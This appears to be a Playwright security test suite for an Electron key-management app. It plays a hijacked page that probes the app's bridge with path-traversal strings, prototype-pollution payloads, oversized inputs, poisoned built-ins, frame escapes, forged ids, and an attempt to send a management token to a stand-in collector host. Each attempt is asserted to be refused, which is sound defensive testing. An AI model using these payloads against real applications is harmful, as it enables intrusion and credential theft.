import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { DemoServer } from '#demo/index'
import { type CallName, calls } from '#shared/contract'
import type { Page } from 'playwright/test'
import { ask, rawCall } from './support/bridge'
import { connect } from './support/connect'
import { type Desk, clipboardText, expect, setClipboard, test as base } from './support/keydesk'
import { workspaceId } from './support/keychain'
import { searchFor } from './support/secret-search'
import { captionsWorkspace, keyGrid, projects } from './support/workspaces'

// A page that an attacker has taken over entirely: it runs any script and may call all of the bridge. It can ask
// for what an administrator can ask for, and for nothing else.

const token = 'CANARYmgmtToken7Qx2Lr9Vb4Zt6Wn8Yp3Ks5Hd1Jf0Gc'
const value = 'CANARYkeyValue5Mu8Ea2Xi7Ro4Bq9Tz1Nw6Cv3Ly0Dk'
const search = searchFor({ 'the token': token, 'the value': value })
const callNames = Object.keys(calls) as CallName[]

const test = base.extend<{ outside: string }>({
  /** The folder that the profile lies in: nothing in it but the profile may change. */
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads a fixture's needs from this pattern
  outside: async ({}, use) => {
    const folder = await mkdtemp(join(tmpdir(), 'keydesk-e2e-'))
    await writeFile(join(folder, 'beside.json'), '{"version":1}')
    await use(folder)
    expect(await readdir(folder)).toEqual(['beside.json', 'profile'])
    expect(await readFile(join(folder, 'beside.json'), 'utf8')).toBe('{"version":1}')
    await rm(folder, { recursive: true, force: true, maxRetries: 5 })
  },
  userDataDir: async ({ outside }, use) => {
    const folder = join(outside, 'profile')
    await mkdir(folder)
    await use(folder)
  },
})

test.use({ serverOptions: { workspace: captionsWorkspace(), token, keyValueFactory: () => value } })

const connected = async (desk: Desk, server: DemoServer): Promise<string> => {
  await connect(desk, server)
  await expect(keyGrid(desk.page)).toBeVisible()
  return workspaceId(desk.page)
}

/** What the page's own script answers, as text: it may hold anything. */
const inPage = async <T>(page: Page, body: string): Promise<T> =>
  JSON.parse(
    await page.evaluate<string>(`(async () => JSON.stringify(await (async () => { ${body} })()))()`),
  ) as T

const writes = (server: DemoServer): string[] =>
  server.requests.filter(({ method }) => method !== 'GET').map(({ method, path }) => `${method} ${path}`)

const expectAlive = async ({ page, app }: Desk): Promise<void> => {
  expect(await ask<object>(page, 'app.info', {})).toHaveProperty('version')
  expect(await ask<{ workspaces: object[] }>(page, 'workspaces.list', {})).toHaveProperty('workspaces')
  expect(search(app.output())).toEqual([])
}

/** In the page: calls every call of the contract with each input, one after the other; answers [name, index, reply]. */
const callAll = (inputs: string, names: readonly string[] = callNames): string => `
  const inputs = ${inputs}
  const replies = []
  for (const name of ${JSON.stringify(names)})
    for (const [index, input] of inputs.entries()) {
      // The bridge itself refuses what is too deep to copy, before there is a promise.
      let reply = 'thrown'
      try { reply = await keydesk.calls[name]({ requestId: crypto.randomUUID(), input }) } catch {}
      replies.push([name, index, reply])
    }
  return replies`

type Replies = readonly (readonly [name: string, index: number, reply: unknown])[]

const expectAllRefused = (replies: Replies, count: number): void => {
  expect(replies).toHaveLength(count)
  for (const [name, index, reply] of replies) {
    if (reply === 'thrown') continue
    const code = (reply as { failure?: { code: string } }).failure?.code
    expect(['internal', 'input-invalid'], `${name} ${index}: ${JSON.stringify(reply)}`).toContain(code)
  }
}

test('no input of another form gets past main, whatever the call', async ({ desk, server }) => {
  test.setTimeout(180_000)
  await connected(desk, server)
  const { page } = desk
  const up = '../../../beside'
  const inputs = `[
    undefined, null, 7, 10n, true, '', 'x', [], [[]], new Date(), new Map([['a', 1]]), new Set([1]),
    new Uint8Array(8), new ArrayBuffer(8), new Error('x'), Object.create({ inherited: 1 }, { a: { value: 1, enumerable: true } }),
    { extra: 1 }, { workspaceId: null }, { workspaceId: '${up}' }, { page: 'https://example.test' },
    { page: 'file:///etc/passwd' }, { page: '__proto__' }, new Map([['__proto__', {}]]),
    Object.fromEntries(['workspaceId', 'projectId', 'keyId', 'requestId', 'handoffId', 'tokenDraftId', 'rotationId',
      'runId', 'attemptId', 'typedName', 'name', 'baseUrl', 'format', 'filter'].map((field) => [field, '${up}'])),
    JSON.parse('{"constructor":{"prototype":{"isAdmin":true}}}'),
    (() => { const circle = {}; circle.circle = circle; return circle })(),
  ]`
  const replies = await inPage<Replies>(page, callAll(inputs))
  expectAllRefused(replies, callNames.length * 26)

  // The context bridge sets such a field, as `copy['__proto__'] = …` does: main gets what is beside it, which is refused
  // where the page could not have said that itself.
  const bridged = [
    [`JSON.parse('{"__proto__":{"isAdmin":true}}')`, {}],
    [
      `JSON.parse('{"filter":{"__proto__":{"limit":1}},"offset":0,"limit":1,"__proto__":{"x":1}}')`,
      { filter: {}, offset: 0, limit: 1 },
    ],
  ] as const
  for (const [input, becomes] of bridged) {
    const names = callNames.filter((name) => !calls[name].input.safeParse(becomes).success)
    expect(names.length).toBeGreaterThan(30)
    expectAllRefused(await inPage<Replies>(page, callAll(`[${input}]`, names)), names.length)
  }

  const requests = `[undefined, null, 7, '', [], {}, { requestId: 'x' }, { requestId: '__proto__', input: {} },
    { requestId: crypto.randomUUID(), input: {}, sender: 'main' }, JSON.parse('{"__proto__":{"requestId":"1"},"input":{}}')]`
  const odd = await inPage<Replies>(
    page,
    `const replies = []
     for (const name of ${JSON.stringify(callNames)})
       for (const [index, request] of ${requests}.entries()) {
         // The preload copies two fields and no more: what else a request holds never leaves the page.
         if (index === 8) continue
         let reply = 'thrown'
         try { reply = await keydesk.calls[name](request) } catch {}
         replies.push([name, index, reply])
       }
     return replies`,
  )
  expectAllRefused(odd, callNames.length * 9)

  expect(await page.evaluate('({}).isAdmin')).toBeUndefined()
  expect(await desk.app.evaluate(() => ({}) as { isAdmin?: boolean })).toEqual({})
  expect(search(JSON.stringify([replies, odd]))).toEqual([])
  expect(writes(server)).toEqual([])
  await expectAlive(desk)
})

test('huge and deep input is refused, and main goes on', async ({ desk, server }) => {
  test.setTimeout(180_000)
  await connected(desk, server)
  const nested = (depth: number): string =>
    `(() => { let deep = 1; for (let level = 0; level < ${depth}; level += 1) deep = [deep]; return deep })()`
  const wide = `Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => ['field' + index, index]))`
  const all = await inPage<Replies>(
    desk.page,
    callAll(`[${nested(10_000)}, ${nested(500)}, ${wide}, 'x'.repeat(200_000)]`),
  )
  expectAllRefused(all, callNames.length * 4)
  // The largest ones take seconds to copy alone; these calls stand for those with a form, with rows and with a name.
  const few = ['app.info', 'revocations.run', 'workspaces.rename', 'keys.create']
  const huge = `['x'.repeat(10_000_000), Array.from({ length: 1_000_000 }, () => 0), { name: 'x'.repeat(10_000_000) }]`
  expectAllRefused(await inPage<Replies>(desk.page, callAll(huge, few)), few.length * 3)
  expect(writes(server)).toEqual([])
  await expectAlive(desk)
})

test('the bridge has no name but the contract’s, and the page cannot put itself into it', async ({
  desk,
  server,
}) => {
  await connected(desk, server)
  const { page } = desk
  const inherited = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__']
  const own = await inPage<boolean[]>(
    page,
    `return ${JSON.stringify(inherited)}.flatMap((name) =>
       [keydesk, keydesk.calls, keydesk.events].map((part) => Object.hasOwn(part, name)))`,
  )
  expect(own).toEqual(own.map(() => false))
  // What they inherit is the page's own: it leads back into the page and nowhere else.
  const reached = await inPage<unknown[]>(
    page,
    `const make = keydesk.calls['app.info'].constructor
     const found = []
     for (const name of ['require', 'process', 'ipcRenderer', 'electron']) {
       try { found.push(make('return typeof ' + name)()) } catch { found.push('refused') }
     }
     return found`,
  )
  // Refused by the policy, or run by the tools, whose scripts it lets through: then with nothing of Node to be found.
  for (const found of reached) expect(['refused', 'undefined']).toContain(found)

  const attempts = `
    const before = keydesk.calls['app.info']
    const tries = [
      () => { keydesk.calls['app.info'] = () => 1 },
      () => { keydesk.calls['evil'] = () => 1 },
      () => { delete keydesk.calls['app.info'] },
      () => Object.defineProperty(keydesk.calls, 'app.info', { value: 1 }),
      () => Object.setPrototypeOf(keydesk.calls, { evil: 1 }),
      () => { keydesk = {} },
      () => Object.defineProperty(window, 'keydesk', { value: {} }),
    ]
    for (const attempt of tries) { try { attempt() } catch {} }
    return [keydesk.calls['app.info'] === before, 'evil' in keydesk.calls]`
  expect(await inPage(page, attempts)).toEqual([true, false])
  await expectAlive(desk)
})

test('a page that has poisoned every built-in still gets no secret', async ({ desk, server }) => {
  const id = await connected(desk, server)
  const { page } = desk
  // Everything that passes through what the page can replace is written down; the test reads it back at the end.
  const heard = await page.evaluate<string>(`(async () => {
    const notes = []
    const note = (thing) => { try { notes.push(typeof thing === 'string' ? thing : stringify(thing) ?? '') } catch {} }
    const { stringify, parse } = JSON
    const then = Promise.prototype.then
    const originals = []
    const poison = (owner, name) => {
      const original = owner[name]
      originals.push(() => { owner[name] = original })
      owner[name] = function (...all) {
        for (const each of all) note(each)
        const result = Reflect.apply(original, this, all)
        note(result)
        return result
      }
    }
    poison(JSON, 'parse'); poison(JSON, 'stringify'); poison(String.prototype, 'slice'); poison(window, 'structuredClone')
    poison(MessagePort.prototype, 'postMessage'); poison(Object, 'fromEntries'); poison(Object, 'entries')
    Promise.prototype.then = function (yes, no) {
      return Reflect.apply(then, this, [typeof yes === 'function' ? (result) => { note(result); return yes(result) } : yes, no])
    }
    for (const name of ['token', 'secret', 'sender', 'ports']) {
      const own = (descriptor) => Object.assign(Object.create(null), { configurable: true, enumerable: true }, descriptor)
      Object.defineProperty(Object.prototype, name, own({
        set(found) { note(found); Object.defineProperty(this, name, own({ value: found, writable: true })) },
        get() { return undefined },
      }))
    }
    const call = async (name, input) => keydesk.calls[name]({ requestId: crypto.randomUUID(), input })
    const made = await call('keys.create', { workspaceId: '${id}', projectId: ${projects.captions}, name: 'made-by-the-page',
      clientRef: '', lifetime: { kind: 'permanent' } })
    note(await call('handoff.list', {}))
    note(await call('handoff.copy', { handoffId: made.value.handoff.id, format: 'value' }))
    note(await call('workspaces.list', {}))
    note(await call('tokens.paste', {}))
    for (const undo of originals) undo()
    Promise.prototype.then = then
    for (const name of ['token', 'secret', 'sender', 'ports']) delete Object.prototype[name]
    return notes.join('\\n')
  })()`)
  expect(heard).toContain('made-by-the-page')
  expect(search(heard)).toEqual([])
  // The search does find what Reveal answers.
  const { handoffs } = await ask<{ handoffs: { id: string }[] }>(page, 'handoff.list', {})
  const revealed = await ask(page, 'handoff.reveal', { handoffId: handoffs[0]?.id })
  expect(search(JSON.stringify(revealed))).toEqual(['the value as utf8'])
  // The value was there to be had, on the clipboard, which no page may read.
  expect(await clipboardText(desk.app)).toBe(value)
  expect(writes(server)).toEqual(['POST /v1/api-keys'])
  await expectAlive(desk)
})

test('thousands of calls at once are bounded, and main answers afterwards', async ({ desk, server }) => {
  test.setTimeout(120_000)
  const id = await connected(desk, server)
  let release: () => void = () => {}
  const until = new Promise<void>((resolve) => void (release = resolve))
  const requestsBefore = server.requests.length
  server.faults.add({ match: { method: 'GET' }, fault: { kind: 'hold', until } })
  const flood = inPage<Record<string, number>>(
    desk.page,
    `const call = (name, input) => keydesk.calls[name]({ requestId: crypto.randomUUID(), input })
     const all = Array.from({ length: 3_000 }, (_, index) =>
       index % 2 === 0 ? call('projects.list', { workspaceId: '${id}' }) : call('keys.list', { workspaceId: '${id}', projectId: ${projects.archive} }))
     const counts = {}
     for (const reply of await Promise.all(all)) {
       const kind = reply.ok ? 'ok' : reply.failure.code
       counts[kind] = (counts[kind] ?? 0) + 1
     }
     return counts`,
  )
  await expect.poll(() => server.requests.length).toBeGreaterThan(requestsBefore)
  release()
  const counts = await flood
  server.faults.clear()
  expect(Object.keys(counts).toSorted()).toEqual(['internal', 'ok'])
  expect((counts['ok'] ?? 0) + (counts['internal'] ?? 0)).toBe(3_000)
  expect(counts['internal']).toBeGreaterThan(2_000)
  expect(writes(server)).toEqual([])
  await expectAlive(desk)
})

test('frames, workers and windows that the page makes have no bridge of their own', async ({
  desk,
  server,
}) => {
  await connected(desk, server)
  const found = await inPage<Record<string, string>>(
    desk.page,
    `const own = keydesk
     const look = async (prepare) => {
       const frame = document.createElement('iframe')
       try {
         prepare(frame)
         // A frame that is refused loads an error page.
         const loaded = new Promise((later) => frame.addEventListener('load', later))
         document.body.append(frame)
         await loaded
         const inside = frame.contentWindow
         let reached = 'no bridge'
         try { if (inside.keydesk !== undefined) reached = inside.keydesk === own ? 'the same' : 'a bridge' } catch { reached = 'closed' }
         return reached
       } catch { return 'refused' } finally { frame.remove() }
     }
     const results = {
       'about:blank': await look((frame) => { frame.src = 'about:blank' }),
       empty: await look(() => {}),
       srcdoc: await look((frame) => { frame.srcdoc = '<script>parent.found = typeof keydesk</' + 'script>' }),
       data: await look((frame) => { frame.src = 'data:text/html,<script>parent.postMessage(typeof keydesk, "*")</' + 'script>' }),
       blob: await look((frame) => { frame.src = URL.createObjectURL(new Blob(['<p>hello'], { type: 'text/html' })) }),
       ours: await look((frame) => { frame.src = 'keydesk-app://bundle/index.html' }),
       sandboxed: await look((frame) => { frame.sandbox = 'allow-scripts'; frame.src = 'about:blank' }),
     }
     const made = (make) => { try { make(); return 'made' } catch { return 'refused' } }
     results.worker = made(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))
     results.sharedWorker = made(() => new SharedWorker('data:text/javascript,1'))
     results.serviceWorker = await navigator.serviceWorker.register('/sw.js').then(() => 'made', () => 'refused')
     const opened = window.open('about:blank')
     results.window = opened === null || opened.keydesk === undefined ? 'refused' : 'made'
     return results`,
  )
  expect(['no bridge', 'refused']).toEqual(expect.arrayContaining([found['srcdoc']]))
  for (const what of ['about:blank', 'empty']) expect(found[what], what).toBe('no bridge')
  // Blocked by the policy: what stands there is an error page of another origin.
  for (const what of ['data', 'blob', 'ours', 'sandboxed'])
    expect(['no bridge', 'closed'], what).toContain(found[what])
  for (const what of ['worker', 'sharedWorker', 'serviceWorker', 'window'])
    expect(found[what], what).toBe('refused')
  expect(await desk.page.evaluate('window.found')).toBeUndefined()
  await expect
    .poll(() => desk.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length))
    .toBe(1)
  await expectAlive(desk)
})

test('ids cannot be guessed, forged or used twice', async ({ desk, server }) => {
  const id = await connected(desk, server)
  const { page } = desk
  await ask(page, 'keys.create', {
    workspaceId: id,
    projectId: projects.captions,
    name: 'waiting',
    clientRef: '',
    lifetime: { kind: 'permanent' },
  })
  const guesses = await inPage<string[]>(
    page,
    `const codes = new Set()
     const call = (name, input) => keydesk.calls[name]({ requestId: crypto.randomUUID(), input })
     for (let round = 0; round < 300; round += 1) {
       const handoffId = round === 0 ? '00000000-0000-0000-0000-000000000000' : crypto.randomUUID()
       const replies = [await call('handoff.reveal', { handoffId }), await call('handoff.copy', { handoffId, format: 'value' })]
       for (const reply of replies) codes.add(reply.ok ? JSON.stringify(reply) : reply.failure.code)
     }
     for (const name of ['workspaces.replaceToken', 'workspaces.add']) {
       const reply = await call(name, name === 'workspaces.add'
         ? { name: 'Evil', baseUrl: '${server.baseUrl}', tokenDraftId: crypto.randomUUID() }
         : { workspaceId: '${id}', tokenDraftId: crypto.randomUUID() })
       codes.add(reply.ok ? JSON.stringify(reply) : reply.failure.code + ':' + Object.keys(reply.failure.fields ?? {}))
     }
     return [...codes]`,
  )
  expect(guesses.toSorted()).toEqual(['handoff-ended', 'input-invalid:tokenDraftId'])

  // The same id twice at once, and cancelling what is not there.
  let release: () => void = () => {}
  const until = new Promise<void>((resolve) => void (release = resolve))
  server.faults.add({ match: { method: 'GET' }, fault: { kind: 'hold', until }, times: 1 })
  const twice = inPage<unknown[]>(
    page,
    `const requestId = crypto.randomUUID()
     const list = () => keydesk.calls['projects.list']({ requestId, input: { workspaceId: '${id}' } })
     const first = list()
     const second = await list()
     for (const other of [crypto.randomUUID(), '00000000-0000-0000-0000-000000000000'])
       await keydesk.calls['app.cancel']({ requestId, input: { requestId: other } })
     await keydesk.calls['app.cancel']({ requestId: crypto.randomUUID(), input: { requestId } })
     return [second, await first]`,
  )
  const [second, first] = (await twice) as [object, object]
  release()
  expect(second).toEqual({ ok: false, failure: { code: 'internal' } })
  expect(first).toEqual({ ok: false, failure: { code: 'cancelled' } })
  expect(writes(server)).toEqual(['POST /v1/api-keys'])
  expect(await clipboardText(desk.app)).not.toBe(value)
  await expectAlive(desk)
})

test('a token on the clipboard goes to no address of the page’s choice without a person’s yes', async ({
  desk,
  server,
}) => {
  const { app, page } = desk
  await connected(desk, server)
  await app.evaluate(({ session }) => {
    const reads = session.defaultSession
    const own = reads.fetch.bind(reads)
    reads.fetch = async (input, init) => {
      const url = typeof input === 'string' ? input : input.url
      process.stdout.write(`\n<sent>${new URL(url).host}</sent>\n`)
      return own(input, init)
    }
  })
  await setClipboard(app, token)
  const add = (name: string): Promise<unknown> =>
    inPage(
      page,
      `const call = (name, input) => keydesk.calls[name]({ requestId: crypto.randomUUID(), input })
       const draft = await call('tokens.paste', {})
       return call('workspaces.add', { name: '${name}', baseUrl: 'https://collector.invalid/v1', tokenDraftId: draft.value.tokenDraftId })`,
    )
  expect(await add('Evil')).toEqual({ ok: false, failure: { code: 'cancelled' } })
  await expect.poll(() => app.asked()).toHaveLength(1)
  expect(app.asked()[0]?.message).toContain('Send the management token to collector.invalid?')
  expect(app.output()).not.toContain('<sent>collector.invalid')
  expect(await clipboardText(app)).toBe(token)
  // Only the yes lets it go: there is no such host.
  await app.answerQuestions(app.asked()[0]?.buttons[1] ?? '')
  expect(await add('Evil')).toMatchObject({ ok: false, failure: { host: 'collector.invalid' } })
  await expect.poll(() => app.output()).toContain('<sent>collector.invalid')
  await expectAlive(desk)
})

test('nothing is deleted without its name, whatever the page claims', async ({ desk, server }) => {
  const id = await connected(desk, server)
  const { page } = desk
  const mistyped = [
    '',
    ' ',
    'captions',
    'captions-staging',
    'CAPTIONS-PRODUCTION',
    'captions-production\u200B',
    'kid-c',
  ]
  for (const typedName of mistyped) {
    expect(
      await rawCall(page, 'keys.revoke', {
        workspaceId: id,
        projectId: projects.captions,
        keyId: 'kid-c',
        typedName,
      }),
      typedName,
    ).toMatchObject({ ok: false, failure: { code: 'input-invalid', fields: { typedName: 'mismatch' } } })
  }
  for (const keyId of [
    '../projects/102',
    'kid-c?x=1',
    'kid-c/../../projects/102',
    '%2e%2e/projects/102',
    '..',
  ])
    await rawCall(page, 'keys.revoke', {
      workspaceId: id,
      projectId: projects.captions,
      keyId,
      typedName: keyId,
    })
  for (const [projectId, typedName] of [
    [projects.archive, 'Captions'],
    [projects.archive, ''],
    [projects.captions, 'Captions'],
  ])
    expect(await rawCall(page, 'projects.remove', { workspaceId: id, projectId, typedName })).toMatchObject({
      ok: false,
    })
  expect(await rawCall(page, 'workspaces.remove', { workspaceId: id, typedName: 'acme ' })).toMatchObject({
    ok: false,
    failure: { fields: { typedName: 'mismatch' } },
  })
  const target = { projectId: projects.captions, projectName: 'Captions', keyId: 'kid-c', keyName: 'x' }
  for (const [targets, confirmedCount] of [
    [[target], 0],
    [[target], 2],
    [[target, target], 2],
    [[], 0],
  ])
    expect(
      await rawCall(page, 'revocations.run', { workspaceId: id, targets, confirmedCount }),
    ).toMatchObject({ ok: false, failure: { code: 'input-invalid' } })
  const elsewhere = crypto.randomUUID()
  expect(
    await rawCall(page, 'keys.revoke', {
      workspaceId: elsewhere,
      projectId: projects.captions,
      keyId: 'kid-c',
      typedName: 'captions-production',
    }),
  ).toMatchObject({ ok: false, failure: { code: 'workspace-unknown' } })
  expect(writes(server)).toEqual([])
  expect(server.state.keyCount()).toBe(7)
  await expectAlive(desk)
})
